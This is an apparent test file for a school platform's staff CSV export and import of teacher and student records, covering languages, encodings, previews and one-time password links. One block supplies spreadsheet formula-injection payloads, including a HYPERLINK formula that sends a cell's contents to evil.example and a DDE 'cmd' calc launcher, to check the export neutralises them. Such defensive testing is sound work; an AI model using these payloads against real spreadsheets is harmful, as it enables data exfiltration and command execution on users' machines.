import { parse } from 'csv-parse/sync';
import { count, eq } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import type { ImportPreview, ImportResult } from '@contracts/people-import';
import { csvTemplateHeaders, STUDENT_CSV_COLUMNS, TEACHER_CSV_COLUMNS } from '@contracts/people-csv';
import { peopleImports, students, teachers, users } from '../../db/schema/index';
import { buildTestApp, signInAs, type TestContext, type TestUser } from '../../../test/build-app';
import { teacherPayload } from '../../../test/factories';
import { multipart } from '../../../test/multipart';

let context: TestContext;
let staff: TestUser;
let otherStaff: TestUser;
let teacher: TestUser;

beforeAll(async () => {
  context = await buildTestApp();
  [staff, otherStaff, teacher] = await Promise.all([
    signInAs(context, 'staff'),
    signInAs(context, 'staff'),
    signInAs(context, 'teacher'),
  ]);
});

const studentCount = async () => (await context.db.select({ value: count() }).from(students))[0]!.value;

function preview(user: TestUser, kind: string, csv: string | Buffer) {
  const content = typeof csv === 'string' ? Buffer.from(csv) : csv;
  const body = multipart({}, [{ filename: 'personas.csv', content, contentType: 'text/csv' }]);
  return context.app.inject({
    method: 'POST',
    url: `/api/staff/import/${kind}/preview`,
    payload: body.payload,
    headers: { ...body.headers, ...user.auth },
  });
}
const confirm = (user: TestUser, id: string) =>
  context.app.inject({ method: 'POST', url: `/api/staff/import/${id}/confirm`, headers: user.auth });

describe('CSV export', () => {
  it('streams the teacher list with the search applied, as the import template, without bank data', async () => {
    for (const name of ['Exportada Uno', 'Exportada Dos']) {
      const created = await context.app.inject({
        method: 'POST',
        url: '/api/staff/teachers',
        headers: staff.auth,
        payload: teacherPayload({
          full_name: name,
          bank_account: '55554444',
          expertise_areas: ['vfx_simulations', 'game_design'],
          countries: ['GT', 'MX'],
        }),
      });
      expect(created.statusCode).toBe(201);
    }
    const response = await context.app.inject({
      method: 'GET',
      url: '/api/staff/teachers.csv?q=exportada',
      headers: staff.auth,
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(/filename="?profesores-\d{4}-\d{2}-\d{2}\.csv/);
    const rows = parse(response.body, { columns: true, bom: true }) as Record<string, string>[];
    // Nobody chose a language and the request asks for none: the school's, Spanish.
    expect(Object.keys(rows[0]!)).toEqual(csvTemplateHeaders('teachers', 'es'));
    expect(rows.map((row) => row['Nombre completo'])).toEqual(['Exportada Dos', 'Exportada Uno']);
    expect(rows[0]).toMatchObject({
      'Áreas de especialidad': 'vfx_simulations;game_design',
      Países: 'GT;MX',
      Activo: 'Sí',
    });
    expect(response.body).not.toContain('55554444');
    expect(
      (await context.app.inject({ method: 'GET', url: '/api/staff/teachers.csv', headers: teacher.auth })).statusCode,
    ).toBe(403);
    expect(
      (await context.app.inject({ method: 'GET', url: '/api/staff/students.csv', headers: teacher.auth })).statusCode,
    ).toBe(403);
  });
});

describe('CSV export and import in English', () => {
  it('heads the export in the requester’s language, and the import takes the English file back', async () => {
    // Asked for by staff who chose English (a signed-in person reads in their choice, else the school's).
    await context.db.update(users).set({ language: 'en' }).where(eq(users.id, staff.id));
    const english = staff.auth;
    const made = await preview(
      staff,
      'students',
      'Nombre completo,Carné,Correo electrónico\nRound Trip Inglés,EN-TRIP-1,en-trip@alumnos.test\n',
    );
    expect((await confirm(staff, made.json<ImportPreview>().import_id)).statusCode).toBe(200);
    const exported = await context.app.inject({
      method: 'GET',
      url: '/api/staff/students.csv?q=en-trip',
      headers: english,
    });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toMatch(/filename="?students-\d{4}-\d{2}-\d{2}\.csv/);
    const [header] = exported.body.replace(/^\uFEFF/, '').split(/\r?\n/);
    expect(header).toBe('Full name,Student ID,Email,Phone,Program,Enrollment year,Can upload documents,Active');
    const [row] = parse(exported.body, { columns: true, bom: true }) as Record<string, string>[];
    expect(row).toMatchObject({ 'Full name': 'Round Trip Inglés', 'Student ID': 'EN-TRIP-1', Active: 'Yes' });

    // Edited in a spreadsheet and imported back — by a person whose screen is Spanish, who reads the headers too.
    await context.db.update(users).set({ language: null }).where(eq(users.id, staff.id));
    const edited = exported.body.replace('Round Trip Inglés', 'Round Trip Editado');
    const plan = await preview(staff, 'students', edited);
    expect(plan.statusCode).toBe(200);
    expect(plan.json<ImportPreview>().rows).toEqual([expect.objectContaining({ action: 'update', reasons: [] })]);
    expect((await confirm(staff, plan.json<ImportPreview>().import_id)).statusCode).toBe(200);
    const [saved] = await context.db
      .select({ name: students.fullName, active: students.isActive })
      .from(students)
      .where(eq(students.studentId, 'EN-TRIP-1'));
    expect(saved).toEqual({ name: 'Round Trip Editado', active: true });
  });
});

describe('CSV export opened in a spreadsheet', () => {
  const link = '=HYPERLINK("http://evil.example/?x="&C2,"Marta")';
  const command = "=cmd|' /C calc'!A0";
  /** The file as a spreadsheet reads it: each cell's first character decides whether it is a formula. */
  const readBack = (body: string) => parse(body, { columns: true, bom: true }) as Record<string, string>[];

  it("quotes a teacher's name and phone set on their own profile, and a student's own phone, so no cell starts a formula", async () => {
    const marta = await signInAs(context, 'teacher');
    const own = await context.app.inject({
      method: 'PUT',
      url: '/api/teacher/profile',
      headers: marta.auth,
      payload: { full_name: link, phone: command },
    });
    expect(own.statusCode).toBe(200);
    const pupil = await signInAs(context, 'student');
    expect(
      (
        await context.app.inject({
          method: 'PUT',
          url: '/api/student/profile',
          headers: pupil.auth,
          payload: { phone: "@SUM(1+1)*cmd|' /C calc'!A0" },
        })
      ).statusCode,
    ).toBe(200);

    const teachersCsv = await context.app.inject({
      method: 'GET',
      url: '/api/staff/teachers.csv?q=evil.example',
      headers: staff.auth,
    });
    const [row] = readBack(teachersCsv.body);
    expect(row).toMatchObject({ 'Nombre completo': `'${link}`, Teléfono: `'${command}` });
    const studentsCsv = await context.app.inject({
      method: 'GET',
      url: '/api/staff/students.csv',
      headers: staff.auth,
    });
    const studentRows = readBack(studentsCsv.body);
    const phones = studentRows.map((each) => each['Teléfono']).filter(Boolean);
    expect(phones).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0"]);
    for (const each of [row!, ...studentRows])
      for (const value of Object.values(each)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('takes the quote off again when the exported file is imported back', async () => {
    const csv = [
      STUDENT_CSV_COLUMNS.join(','),
      `Vuelta Importada,VUELTA-1,vuelta@alumnos.test,'+502 5555 1234,,,,`,
    ].join('\n');
    const plan = (await preview(staff, 'students', csv)).json<ImportPreview>();
    expect((await confirm(staff, plan.import_id)).statusCode).toBe(200);
    const [row] = await context.db
      .select({ phone: students.phone })
      .from(students)
      .where(eq(students.studentId, 'VUELTA-1'));
    expect(row?.phone).toBe('+502 5555 1234');
  });
});

describe('CSV import', () => {
  const header = STUDENT_CSV_COLUMNS.join(';');
  const csv = [
    header,
    'Ana Importada;IMP-1;ana.imp@alumnos.test;;Animación;2025;sí;',
    'Beto Importado;IMP-2;beto.imp@alumnos.test;+502 1111-2222;Videojuegos;2024;no;true',
    'Ciro Malo;IMP-3;no-es-un-correo;;;;;',
    'Dora Repetida;IMP-4;ana.imp@alumnos.test;;;;;',
    'Eva Importada;IMP-5;eva.imp@alumnos.test;;;2026;;',
  ].join('\n');

  it('previews what each row will do, changing nothing, then applies it all on confirm', async () => {
    const before = await studentCount();
    const answer = await preview(staff, 'students', csv);
    expect(answer.statusCode, answer.body).toBe(200);
    const plan = answer.json<ImportPreview>();
    expect(plan.summary).toEqual({ create: 3, update: 0, reject: 2 });
    expect(plan.rows.find((row) => row.line === 4)).toMatchObject({
      action: 'reject',
      reasons: ["Columna 'email': escribe un correo electrónico válido, como nombre@escuela.edu"],
    });
    expect(plan.rows.find((row) => row.line === 5)).toMatchObject({
      action: 'reject',
      reasons: ['Duplicado en el archivo (línea 2)'],
    });
    expect(await studentCount()).toBe(before);
    // Only who previewed it confirms it.
    expect((await confirm(otherStaff, plan.import_id)).statusCode).toBe(404);
    const applied = await confirm(staff, plan.import_id);
    expect(applied.statusCode, applied.body).toBe(200);
    const result = applied.json<ImportResult>();
    expect(result).toMatchObject({ created: 3, updated: 0, rejected: 2 });
    expect(await studentCount()).toBe(before + 3);
    const [ana] = await context.db.select().from(students).where(eq(students.studentId, 'IMP-1'));
    expect(ana).toMatchObject({
      fullName: 'Ana Importada',
      program: 'Animación',
      enrollmentYear: 2025,
      canUploadDocuments: true,
      isActive: true,
      email: 'ana.imp@alumnos.test',
    });
    expect((await confirm(staff, plan.import_id)).statusCode).toBe(404);

    // A new account has no password until its one-time link sets one; the link works once.
    const signIn = (password: string) =>
      context.app.inject({
        method: 'POST',
        url: '/api/auth/login',
        payload: { email: 'beto.imp@alumnos.test', password },
      });
    expect((await signIn('anything-at-all')).statusCode).toBe(401);
    const link = result.password_links.find((entry) => entry.email === 'beto.imp@alumnos.test')!;
    const token = new URL(link.link).searchParams.get('token')!;
    expect(new URL(link.link).pathname).toBe('/set-password');
    const set = (password: string) =>
      context.app.inject({ method: 'POST', url: '/api/auth/set-password', payload: { token, password } });
    expect((await set('beto-elige-1')).statusCode).toBe(204);
    expect((await signIn('beto-elige-1')).statusCode).toBe(200);
    const again = await set('otra-clave-2');
    expect(again.statusCode).toBe(400);
    expect(again.json().code).toBe('PASSWORD_LINK_INVALID');
  });

  it('updates people matched by email or student id, and rejects a row whose email and id are two people', async () => {
    const file = [
      header,
      'Ana Corregida;IMP-1;ana.imp@alumnos.test;;Diseño;2025;no;',
      'Mezcla;IMP-2;eva.imp@alumnos.test;;;;;',
    ].join('\n');
    const plan = (await preview(staff, 'students', file)).json<ImportPreview>();
    expect(plan.summary).toEqual({ create: 0, update: 1, reject: 1 });
    expect(plan.rows[1]!.reasons).toEqual(['El correo y el carné son de estudiantes distintos']);
    expect((await confirm(staff, plan.import_id)).json()).toMatchObject({ updated: 1 });
    const [ana] = await context.db.select().from(students).where(eq(students.studentId, 'IMP-1'));
    expect(ana).toMatchObject({ fullName: 'Ana Corregida', program: 'Diseño', canUploadDocuments: false });
  });

  it('applies nothing when one row fails at confirm time', async () => {
    const file = [
      header,
      'Fer Nuevo;IMP-10;fer.imp@alumnos.test;;;;;',
      'Gil Nuevo;IMP-11;gil.imp@alumnos.test;;;;;',
    ].join('\n');
    const plan = (await preview(staff, 'students', file)).json<ImportPreview>();
    expect(plan.summary.create).toBe(2);
    // Taken meanwhile by someone else.
    await context.app.inject({
      method: 'POST',
      url: '/api/auth/register',
      headers: staff.auth,
      payload: { username: 'gil-antes', email: 'gil.imp@alumnos.test', password: 'secret-pass', role: 'staff' },
    });
    const before = await studentCount();
    const failed = await confirm(staff, plan.import_id);
    expect(failed.statusCode).toBe(409);
    expect(await studentCount()).toBe(before);
    expect(await context.db.select().from(users).where(eq(users.email, 'fer.imp@alumnos.test'))).toHaveLength(0);
  });

  it('imports teachers with areas and countries checked against the catalogues, comma-separated files too', async () => {
    const file = [
      TEACHER_CSV_COLUMNS.join(','),
      'Hugo Importado,hugo.imp@docentes.test,T-IMP-1,,2015,10,1980-05-01,licenciado,3d_animation;vfx_simulations,GT;SV,true,true,Bio',
      'Iris Mala,iris.imp@docentes.test,,,,,,,cocina,ZZ,,,',
    ].join('\n');
    const plan = (await preview(staff, 'teachers', file)).json<ImportPreview>();
    expect(plan.summary).toEqual({ create: 1, update: 0, reject: 1 });
    expect(plan.rows[1]!.reasons).toEqual(
      expect.arrayContaining([
        "Columna 'expertise_areas': 'cocina' no es un área de especialidad del catálogo (escribe códigos como 2d_animation, 3d_animation, separados por ;)",
        "Columna 'countries': 'ZZ' no es un país del catálogo (escribe códigos como GT, SV, separados por ;)",
      ]),
    );
    expect((await confirm(staff, plan.import_id)).json()).toMatchObject({ created: 1 });
    const [hugo] = await context.db.select().from(teachers).where(eq(teachers.email, 'hugo.imp@docentes.test'));
    expect(hugo).toMatchObject({
      teacherCode: 'T-IMP-1',
      expertiseAreas: ['3d_animation', 'vfx_simulations'],
      countries: ['GT', 'SV'],
      academicTitles: ['licenciado'],
      esarteAlumni: true,
      birthdate: '1980-05-01',
    });
    expect(hugo!.academicTitleDescriptions).toHaveLength(1);
  });

  it('refuses a file that is not a CSV of the kind, and is staff only', async () => {
    expect((await preview(staff, 'students', 'apellido,telefono\nx,y')).json().message).toBe(
      'Faltan columnas: Nombre completo, Carné, Correo electrónico',
    );
    expect((await preview(staff, 'students', 'Nombre completo;Correo\nx;y@x.test')).json().message).toBe(
      'Faltan columnas: Carné',
    );
    expect((await preview(staff, 'students', '')).statusCode).toBe(400);
    expect((await preview(staff, 'parents', csv)).statusCode).toBe(400);
    expect((await preview(teacher, 'students', csv)).statusCode).toBe(403);
  });

  it("writes each row's reasons and label in the reader's language, and keeps them as ids in the plan", async () => {
    const file = [
      header,
      'Lía Lenguas;LANG-1;lia.lang@alumnos.test;;;;;',
      'Lía Otra;LANG-2;lia.lang@alumnos.test;;;;;',
      ';;;;;;;',
      'Ciro Lenguas;LANG-3;no-es-correo;;;;;',
    ].join('\n');
    await context.db.update(users).set({ language: 'en' }).where(eq(users.id, otherStaff.id));
    try {
      const english = await preview(otherStaff, 'students', file);
      expect(english.statusCode, english.body).toBe(200);
      const rows = english.json<ImportPreview>().rows;
      expect(rows.find((row) => row.line === 3)!.reasons).toEqual(['Duplicate in the file (line 2)']);
      expect(rows.find((row) => row.line === 4)).toMatchObject({ label: 'Line 4' });
      expect(rows.find((row) => row.line === 4)!.reasons).toContain("Column 'email': cannot be left empty");
      expect(rows.find((row) => row.line === 5)!.reasons).toEqual([
        "Column 'email': write a valid email address, such as name@school.edu",
      ]);
      const [stored] = await context.db
        .select({ plan: peopleImports.plan })
        .from(peopleImports)
        .where(eq(peopleImports.id, english.json<ImportPreview>().import_id));
      expect(JSON.stringify(stored!.plan)).not.toContain('Duplicate');
      expect((stored!.plan as { rows: unknown[] }).rows).toContainEqual(
        expect.objectContaining({ line: 3, reasons: [{ id: 'duplicate', values: { line: 2 } }] }),
      );
    } finally {
      await context.db.update(users).set({ language: null }).where(eq(users.id, otherStaff.id));
    }
    const spanish = (await preview(staff, 'students', file)).json<ImportPreview>().rows;
    expect(spanish.find((row) => row.line === 3)!.reasons).toEqual(['Duplicado en el archivo (línea 2)']);
    expect(spanish.find((row) => row.line === 4)).toMatchObject({ label: 'Línea 4' });
    expect(spanish.find((row) => row.line === 4)!.reasons).toContain("Columna 'email': no puede quedar vacía");
    expect(spanish.find((row) => row.line === 5)!.reasons).toEqual([
      "Columna 'email': escribe un correo electrónico válido, como nombre@escuela.edu",
    ]);
  });
});

describe('CSV import of a file as Spanish Excel saves it', () => {
  /** Windows-1252 bytes: every character used is Latin-1, where the two agree. */
  const windows1252 = (text: string) => Buffer.from(text, 'latin1');

  it('reads a Windows-1252 file with semicolons and Spanish headers, accents intact, and imports it', async () => {
    const file = windows1252(
      [
        'Nombre completo;Carné;Correo electrónico;Teléfono;Programa;Año de ingreso;Puede subir documentos;Activo',
        'José Peña Núñez;PENA-1252;jose.pena@alumnos.test;;Animación;2025;sí;sí',
        'Begoña Ibáñez;PENA-1253;begona@alumnos.test;;;;quizás;',
      ].join('\r\n'),
    );
    expect(file.includes(Buffer.from('José'))).toBe(false); // not UTF-8
    const answer = await preview(staff, 'students', file);
    expect(answer.statusCode, answer.body).toBe(200);
    const plan = answer.json<ImportPreview>();
    expect(plan.summary).toEqual({ create: 1, update: 0, reject: 1 });
    expect(plan.rows[0]).toMatchObject({
      action: 'create',
      label: 'José Peña Núñez · jose.pena@alumnos.test · PENA-1252',
    });
    expect(plan.rows[1]).toMatchObject({
      action: 'reject',
      label: 'Begoña Ibáñez · begona@alumnos.test · PENA-1253',
      reasons: ["Columna 'Puede subir documentos': escribe sí o no"],
    });
    expect(answer.body).not.toContain('\uFFFD');

    const applied = await confirm(staff, plan.import_id);
    expect(applied.statusCode, applied.body).toBe(200);
    expect(applied.json<ImportResult>().password_links).toEqual([
      expect.objectContaining({ name: 'José Peña Núñez', email: 'jose.pena@alumnos.test' }),
    ]);
    const [jose] = await context.db.select().from(students).where(eq(students.studentId, 'PENA-1252'));
    expect(jose).toMatchObject({
      fullName: 'José Peña Núñez',
      program: 'Animación',
      enrollmentYear: 2025,
      canUploadDocuments: true,
    });
  });

  it('reads UTF-8 with a BOM and headers in any case, with or without accents', async () => {
    const file = Buffer.concat([
      Buffer.from([0xef, 0xbb, 0xbf]),
      Buffer.from(
        ['  NOMBRE COMPLETO , matricula ,correo electronico', 'Íñigo Muñoz,BOM-1,inigo@alumnos.test'].join('\n'),
      ),
    ]);
    const plan = (await preview(staff, 'students', file)).json<ImportPreview>();
    expect(plan.summary).toEqual({ create: 1, update: 0, reject: 0 });
    expect(plan.rows[0]!.label).toBe('Íñigo Muñoz · inigo@alumnos.test · BOM-1');
  });
});
